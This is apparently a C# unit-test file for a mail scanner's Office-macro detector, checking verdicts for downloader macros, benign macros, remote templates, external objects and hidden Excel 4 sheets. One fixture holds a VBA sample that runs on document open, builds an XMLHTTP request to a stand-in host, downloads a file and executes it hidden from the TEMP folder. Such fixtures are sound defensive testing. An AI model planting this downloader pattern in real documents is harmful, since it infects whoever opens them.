using Lurewatch.Files;
using Lurewatch.Samples;
using Lurewatch.Samples.Office;
using Shouldly;
using Xunit;

namespace Lurewatch.Tests.Detection;

public sealed class MacroDetectorTests
{
    private static Analysis Scan(byte[] file, string name = "Rechnung.doc") => new MailScanner(new ScanOptions { Strict = true }).Scan(file, name);

    private static IEnumerable<string> Kinds(byte[] file) => Scan(file).Findings.Select(finding => finding.Kind.Id).Where(id => id.StartsWith("office.", StringComparison.Ordinal));

    private const string Downloader =
        "Private Sub Document_Open()\r\n  Run1\r\nEnd Sub\r\n";
    private const string Payload =
        "Sub Run1()\r\n  Set h = CreateObject(\"MSXML2.\" & \"XMLHTTP\")\r\n  h.Open \"GET\", \"http://\" & \"one.example/a.bin\", False\r\n  Shell Environ(\"TEMP\") & \"\\a.exe\", 0\r\nEnd Sub\r\n";

    [Fact]
    public void A_macro_that_starts_itself_and_downloads_is_malicious_in_both_formats()
    {
        (string, string)[] modules = [("ThisDocument", Downloader), ("Module1", Payload)];
        foreach (var file in new[] { MacroDocument.Doc(modules), MacroDocument.Docm(modules) })
        {
            var analysis = Scan(file);
            var kinds = analysis.Findings.Select(finding => finding.Kind.Id).ToArray();
            kinds.ShouldContain("office.macro-runs-itself-and-executes");
            kinds.ShouldContain("office.macro-url");
            analysis.Verdict.Class.ShouldBe(VerdictClass.Malicious);
            analysis.Verdict.Kind.ShouldBe(VerdictKind.Malware);
            analysis.Artifacts.Count(artifact => artifact.Type == FileType.Vba).ShouldBe(2);
        }
    }

    [Fact]
    public void A_work_macro_stays_clean()
    {
        var file = MacroDocument.Xls([("ThisWorkbook", ""), ("Module1", "Sub FormatReport()\r\n  Range(\"A1\").Font.Bold = True\r\n  ActiveWorkbook.Save\r\nEnd Sub\r\n")]);
        Kinds(file).ShouldBe(["office.macros"]);
        Scan(file).Verdict.Class.ShouldBe(VerdictClass.Clean);
    }

    [Fact]
    public void A_workbook_that_only_greets_on_opening_is_not_malicious()
    {
        var file = MacroDocument.Xls([("ThisWorkbook", "Private Sub Workbook_Open()\r\n  Sheets(1).Activate\r\nEnd Sub\r\n")]);
        Kinds(file).ShouldBe(["office.macro-runs-itself", "office.macros"], ignoreOrder: true);
        Scan(file).Verdict.Class.ShouldBe(VerdictClass.Clean);
    }

    [Fact]
    public void Empty_sheet_modules_are_no_macros() => Kinds(MacroDocument.Xls([("ThisWorkbook", ""), ("Sheet1", "")])).ShouldBeEmpty();

    [Fact]
    public void A_remote_template_is_named()
    {
        var finding = Scan(MacroDocument.DocxWithTemplate("https://one.example/t.dotm"), "a.docx").Findings.Single(finding => finding.Kind.Id == "office.external-template");
        finding.Reason.ShouldContain("https://one.example/t.dotm");
        Kinds(MacroDocument.DocxWithTemplate("file:///C:\\Templates\\Letter.dotx")).ShouldBeEmpty();
    }

    [Theory]
    [InlineData("https://one.example/a.html!", "office.external-page")]
    [InlineData("mhtml:http://one.example/a!x-usc:http://one.example/a", "office.external-page")]
    [InlineData("https://one.example/a.htm?id=1", "office.external-page")]
    [InlineData("https://one.example/numbers.xlsx", "office.external-object")]
    public void A_page_for_an_object_is_told_from_other_objects(string target, string kind) =>
        Kinds(OfficePackage.Word(OfficePackage.Paragraph("x")).Relate("word/document.xml", "oleObject", target, external: true).ToBytes()).ShouldBe([kind]);

    [Fact]
    public void A_very_hidden_Excel_4_sheet_is_worse_than_a_visible_one()
    {
        Kinds(MacroDocument.Xls([], [("Sheet1", 0, 0), ("Macro1", 1, 2)])).ShouldBe(["office.excel4-macros-hidden"]);
        Kinds(MacroDocument.Xls([], [("Macro1", 1, 0)])).ShouldBe(["office.excel4-macros"]);
    }
}
